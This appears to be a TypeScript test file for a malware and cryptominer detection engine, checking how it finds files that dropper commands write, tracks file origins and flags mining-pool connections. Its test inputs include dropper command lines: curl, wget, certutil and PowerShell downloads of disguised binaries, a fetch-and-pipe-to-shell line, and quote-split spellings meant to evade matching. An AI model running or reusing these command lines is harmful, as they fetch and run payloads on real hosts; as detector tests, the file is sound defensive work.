import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Signal } from '../model/signal.js';
import { MiningPortContacts } from './mining-port-contact.js';
import {
  FileProvenance,
  filesRunBy,
  filesWrittenBy,
  MAX_ORIGIN_AGE_MS,
  MAX_ORIGINS,
  resolvePath,
  scriptRunBy,
  WrittenFiles,
} from './provenance.js';

const written = (command: string) => filesWrittenBy(command).map((f) => `${f.how} ${f.path}`);

test('the files a command writes: every way a dropper puts a program on disk', () => {
  assert.deepEqual(written('curl -fsSLo /tmp/.x/a http://h/a'), ['fetched /tmp/.x/a']);
  assert.deepEqual(written('curl --output /tmp/a http://h/a'), ['fetched /tmp/a']);
  assert.deepEqual(written('curl -sO http://h/dir/kswapd?x=1'), ['fetched kswapd']);
  assert.deepEqual(written('wget -q http://h/x/kthreadd'), ['fetched kthreadd']);
  assert.deepEqual(written('wget -P /var/tmp http://h/x/k'), ['fetched /var/tmp/k']);
  assert.deepEqual(written('wget -O- http://h/s | sh'), []);
  assert.deepEqual(written('wget --output-document=/dev/shm/m http://h/m'), ['fetched /dev/shm/m']);
  assert.deepEqual(written('chmod +x /tmp/a; chmod 755 /tmp/b; chmod 644 /tmp/c'), [
    'made executable /tmp/a',
    'made executable /tmp/b',
  ]);
  assert.deepEqual(written('cp /tmp/a /usr/local/bin/'), ['copied /usr/local/bin/a']);
  assert.deepEqual(written('mv -f /tmp/a /usr/sbin/dbus'), ['copied /usr/sbin/dbus']);
  assert.deepEqual(written('echo payload | base64 -d > /tmp/p'), ['written /tmp/p']);
  assert.deepEqual(written('sh -c "curl http://h/y>/tmp/z"'), ['written /tmp/z']);
  assert.deepEqual(written('dd if=/dev/stdin of=/tmp/d bs=1'), ['written /tmp/d']);
  assert.deepEqual(
    written("powershell -c (New-Object Net.WebClient).DownloadFile('http://h/u.exe','C:\\Users\\Public\\u.exe')"),
    ['fetched C:\\Users\\Public\\u.exe'],
  );
  assert.deepEqual(written('certutil -urlcache -split -f http://h/m.exe C:\\ProgramData\\m.exe'), [
    'fetched C:\\ProgramData\\m.exe',
  ]);
  assert.deepEqual(written('ls -la /tmp > /dev/null; gcc -o out x.c; ssh -o BatchMode=yes h'), []);
});

test('writers spelled in pieces, upper case or by path are still read: the shortcut for plain lines is a superset', () => {
  const fetched = (command: string) => filesWrittenBy(command).map((f) => f.path);
  assert.deepEqual(fetched('c"u"rl -o /tmp/x http://h/x'), ['/tmp/x']);
  assert.deepEqual(fetched("w'g'et -O /tmp/y http://h/y"), ['/tmp/y']);
  assert.deepEqual(fetched('/usr/bin/CURL -o /tmp/z http://h/z'), ['/tmp/z']);
  assert.deepEqual(fetched('C:\\Windows\\System32\\certutil.exe -urlcache -f http://h/m C:\\m.exe'), ['C:\\m.exe']);
  assert.deepEqual(fetched('install -m 755 /tmp/a /usr/local/bin/a'), ['/usr/local/bin/a']);
  assert.deepEqual(fetched('echo 1>/tmp/flag'), ['/tmp/flag']);
  assert.deepEqual(fetched('ls -la /var/www/alpha'), []);
  assert.deepEqual(fetched('python3 worker.py --queue jobs'), []);
});

test("an engine's remembered answers are filesWrittenBy's, asked again, past the bound, and for lines too long to keep", () => {
  const memo = new WrittenFiles();
  const lines = [
    'curl -fsSLo /tmp/.x/a http://h/a',
    "sh -c 'test -x /usr/sbin/anacron || run-parts /etc/cron.daily'",
    'ls -la /var/www/alpha',
    "powershell -c (New-Object Net.WebClient).DownloadFile('http://h/u.exe','C:\\u.exe'); echo x > C:\\v",
    `cp /tmp/a /opt/${'d'.repeat(2000)}/`,
  ];
  for (let round = 0; round < 2; round++)
    for (const line of lines) assert.deepEqual(memo.of(line), filesWrittenBy(line), line);
  for (let i = 0; i < 5000; i++) {
    const line = `cp /tmp/a /tmp/b${i}`;
    assert.deepEqual(memo.of(line), [{ path: `/tmp/b${i}`, how: 'copied' }]);
  }
  for (const line of lines) assert.deepEqual(memo.of(line), filesWrittenBy(line), line);
});

test('relative paths resolve against the working directory, or not at all', () => {
  assert.equal(resolvePath('kd', '/var/tmp'), '/var/tmp/kd');
  assert.equal(resolvePath('./a/../kd', '/tmp/'), '/tmp/kd');
  assert.equal(resolvePath('kd', undefined), undefined);
  assert.equal(resolvePath('/tmp/x', undefined), '/tmp/x');
});

test('absolute paths: the ones with nothing to resolve come back as written, the others resolved', () => {
  const cases: Array<[string, string]> = [
    ['/usr/bin/ls', '/usr/bin/ls'],
    ['/tmp/.x/m', '/tmp/.x/m'],
    ['/tmp/./x', '/tmp/x'],
    ['/tmp//x', '/tmp/x'],
    ['/tmp/x/', '/tmp/x'],
    ['/tmp/a/../x', '/tmp/x'],
    ['/tmp/x/.', '/tmp/x'],
    ['/tmp/x/..', '/tmp'],
    ['/', '/'],
    ['/..', '/'],
  ];
  for (const [path, resolved] of cases) {
    assert.equal(resolvePath(path, undefined), resolved, path);
    assert.equal(resolvePath(path, '/elsewhere'), resolved, path);
  }
});

test('what an exec runs: the executable, or the script a shell or interpreter is given', () => {
  assert.deepEqual(filesRunBy('/bin/bash', ['bash', '/tmp/x.sh']), ['/bin/bash', '/tmp/x.sh']);
  assert.deepEqual(filesRunBy('/usr/bin/python3.11', ['python3', '-u', 'm.py']), ['/usr/bin/python3.11', 'm.py']);
  assert.deepEqual(filesRunBy('/bin/sh', ['sh', '-c', 'echo hi']), ['/bin/sh']);
  assert.equal(scriptRunBy('/usr/bin/node', ['node', '--max-old-space-size=64', '/tmp/.m/x.js']), '/tmp/.m/x.js');
  assert.equal(scriptRunBy('/usr/bin/perl', ['perl', '-e', 'print 1']), undefined);
  assert.equal(scriptRunBy('/usr/bin/curl', ['curl', 'http://h/x']), undefined);
  assert.equal(scriptRunBy(undefined, ['sh', '/tmp/x.sh']), undefined);
  assert.equal(scriptRunBy('/bin/sh', undefined), undefined);
});

test('origins are kept per host within one bound: the least recently recorded goes first', () => {
  const prov = new FileProvenance();
  const origin = (path: string, how: 'fetched' | 'written' = 'written') => ({
    path,
    how,
    writer: 'process:h:1',
    writerRoot: 'process:h:1',
    ts: 0,
    ref: { file: 'x', line: 1 },
  });
  assert.equal(prov.hasWrites('a'), false);
  prov.record('a', origin('/tmp/first'));
  prov.record('b', origin('/tmp/second'));
  assert.ok(prov.hasWrites('a') && prov.hasWrites('b') && !prov.hasWrites('c'));
  // a better origin of the first path is a new recording of it: it is no longer the least recent
  prov.record('a', origin('/tmp/first', 'fetched'));
  for (let i = 0; i < MAX_ORIGINS - 1; i++) prov.record('c', origin(`/tmp/${i}`));
  assert.equal(prov.size, MAX_ORIGINS);
  assert.equal(prov.originOf('b', '/tmp/second', 0), undefined, 'the least recently recorded went');
  assert.equal(prov.hasWrites('b'), false, 'and with it the host that had no other');
  assert.equal(prov.originOf('a', '/tmp/first', 0)?.how, 'fetched');
  assert.ok(prov.originOf('c', '/tmp/0', 0));
});

test('origins: time order and the age bound hold; a fetch outranks a later chmod; windows paths ignore case', () => {
  const prov = new FileProvenance();
  const origin = (how: 'fetched' | 'made executable', ts: number, path = '/tmp/a') => ({
    path,
    how,
    writer: `process:h:${ts}`,
    writerRoot: 'process:h:1',
    ts,
    ref: { file: 'x', line: 1 },
  });
  prov.record('h', origin('fetched', 1000));
  prov.record('h', origin('made executable', 2000));
  assert.equal(prov.originOf('h', '/tmp/a', 3000)?.how, 'fetched');
  assert.equal(prov.originOf('h', '/tmp/a', 500), undefined, 'not before it was written');
  assert.equal(prov.originOf('h', '/tmp/a', 1000 + MAX_ORIGIN_AGE_MS + 1), undefined, 'not after a day');
  assert.equal(prov.originOf('other', '/tmp/a', 3000), undefined);
  prov.record('h', origin('fetched', 1000, 'C:\\Users\\Public\\U.exe'));
  assert.ok(prov.originOf('h', 'c:\\users\\public\\u.exe', 2000));
});

test('a held mining-port connection of a miner becomes medium pool contact once; without miner evidence it stays weak', () => {
  const weak: Signal = {
    kind: 'mining-port',
    class: 'network',
    strength: 'weak',
    entity: 'process:h:1',
    host: 'h',
    ts: 0,
    ref: { file: 'conn.log', line: 1 },
    explanation: 'x connected to 198.51.100.9:3333 (weak on its own)',
    by: 'network:mining-port',
    subject: { destination: '198.51.100.9:3333' },
  };
  const contacts = new MiningPortContacts();
  assert.equal(
    contacts.observe(weak, 'process:h:1', 60 * 60_000, () => false),
    undefined,
  );
  const held = contacts.observe(weak, 'process:h:1', 60 * 60_000, () => true);
  assert.equal(held?.kind, 'pool-contact');
  assert.equal(held?.strength, 'medium');
  assert.match(held?.explanation ?? '', /held one connection open for 60 min/);
  assert.equal(
    contacts.observe(weak, 'process:h:1', 60 * 60_000, () => true),
    undefined,
    'once per destination',
  );
  assert.equal(
    new MiningPortContacts().observe(weak, 'process:h:2', 30_000, () => true),
    undefined,
    'a short flow is a probe',
  );
});
